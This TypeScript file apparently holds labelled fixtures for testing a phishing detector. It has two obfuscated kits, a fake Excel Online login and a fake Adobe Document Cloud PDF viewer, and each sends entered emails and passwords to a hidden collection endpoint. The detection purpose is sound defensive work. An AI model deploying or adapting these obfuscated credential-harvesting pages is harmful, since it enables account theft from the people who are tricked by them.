import type { Entry } from '../entry.js';
import { htmlRoute } from '../entry.js';
import { doc, b64, charCodes, xorHex, imgRoute } from '../parts/r-kit.js';
import { jsRoute } from '../parts/e-bin.js';

const excelForm = `<div style="font-family:Segoe UI,Arial;max-width:420px;margin:70px auto;border:1px solid #ccc;padding:28px;background:#fff"><div style="background:#217346;color:#fff;padding:8px 12px;font-weight:600">Excel Online</div>
<h3>Purchase_Order_PO-77821.xlsx</h3><p style="font-size:13px;color:#555">This document is protected. Confirm your email credentials to open.</p>
<input id="eml" style="width:100%;padding:9px;margin:5px 0" placeholder="Email"><input id="pwd" type="password" style="width:100%;padding:9px;margin:5px 0" placeholder="Password"><button id="go" style="width:100%;padding:10px;background:#217346;color:#fff;border:0">Open document</button></div>`;

const adobeKitJs = (() => {
  const strs = ['createElement', 'innerHTML', 'body', 'appendChild', 'POST', '/cdn-cgi/trace/collect', 'Adobe Document Cloud', 'Confirm your email identity to download the shared PDF', 'email', 'password', 'Download PDF', 'value', 'then', 'Invalid login, please retry', 'querySelector'];
  const arr = strs.map((s) => b64(s));
  return `var _0x1f2a=${JSON.stringify(arr)};(function(_0x3b,_0x41){var _0x2c=function(_0x9){while(--_0x9){_0x3b['push'](_0x3b['shift']());}};_0x2c(++_0x41);}(_0x1f2a,0x0));
var _0x4e=function(_0x1,_0x2){return atob(_0x1f2a[_0x1]);};
(function(){var d=document,w=d[_0x4e(0)]('div');w.style.cssText='max-width:420px;margin:80px auto;font-family:Arial;border:1px solid #ddd;border-top:6px solid #eb1000;padding:24px;background:#fff';
w[_0x4e(1)]='<h2>'+_0x4e(6)+'</h2><p style="color:#555">'+_0x4e(7)+'</p><p style="font-size:13px">📄 Remittance_Advice_0914.pdf (412 KB)</p><input id="q1" type="email" placeholder="'+_0x4e(8)+'" style="width:100%;padding:9px;margin:4px 0"><input id="q2" type="password" placeholder="'+_0x4e(9)+'" style="width:100%;padding:9px;margin:4px 0"><button id="q3" style="width:100%;background:#eb1000;color:#fff;border:0;padding:10px">'+_0x4e(10)+'</button><p id="q4" style="color:#c00"></p>';
d[_0x4e(2)][_0x4e(3)](w);var c=0;d[_0x4e(14)]('#q3').onclick=function(){c++;fetch(_0x4e(5),{method:_0x4e(4),body:JSON.stringify({u:d[_0x4e(14)]('#q1')[_0x4e(11)],p:d[_0x4e(14)]('#q2')[_0x4e(11)],c:c})})[_0x4e(12)](function(){d[_0x4e(14)]('#q4').textContent=_0x4e(13);});};})();`;
})();

export const entries: Entry[] = [
{
  id: 'r-obf-charcode-excel-fetch',
  label: 'phishing',
  kind: 'obfuscated-kit',
  url: 'https://kellerbau-renovierung.de/wp-content/uploads/2024/05/xls/index.html',
  body: doc({ title: 'Excel Online', bodyAttrs: 'style="background:#f3f2f1;margin:0"' }, `<div id="root"></div>
<script>
var _c=[${charCodes(excelForm)}];var _h='';for(var i=0;i<_c.length;i++){_h+=String.fromCharCode(_c[i]);}
document.getElementById('root').innerHTML=_h;
var _e=String.fromCharCode(${charCodes('/wp-includes/js/jquery/.cache/next.php')});
document.getElementById('go').addEventListener('click',function(){var d=new URLSearchParams();d.append('e',document.getElementById('eml').value);d.append('p',document.getElementById('pwd').value);
fetch(_e,{method:'POST',body:d,mode:'no-cors'}).then(function(){document.getElementById('pwd').value='';alert('Wrong password. Try again');});});
</script>`),
  routes: { 'kellerbau-renovierung.de/wp-includes/js/jquery/.cache/next.php': { status: 200, headers: { 'content-type': 'text/plain' }, body: '' } },
},
{
  id: 'r-obf-string-array-adobe-loader',
  label: 'phishing',
  kind: 'obfuscated-kit',
  url: 'https://docs-adobecloud.pages-view.site/share/view?id=8a1f0c2e',
  body: `<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>Adobe Document Cloud</title><link rel="icon" href="/share/fav.png"></head>
<body style="margin:0;background:#f5f5f5 url(/share/pdfbg.png) center/cover"><script src="/share/assets/app.min.js?v=3"></script></body></html>`,
  routes: {
    'docs-adobecloud.pages-view.site/share/assets/app.min.js': jsRoute(adobeKitJs),
    'docs-adobecloud.pages-view.site/share/fav.png': imgRoute(235, 16, 0),
    'docs-adobecloud.pages-view.site/share/pdfbg.png': imgRoute(220, 220, 220),
    'docs-adobecloud.pages-view.site/cdn-cgi/trace/collect': { status: 200, headers: { 'content-type': 'application/json' }, body: '{"r":0}' },
  },
},
];
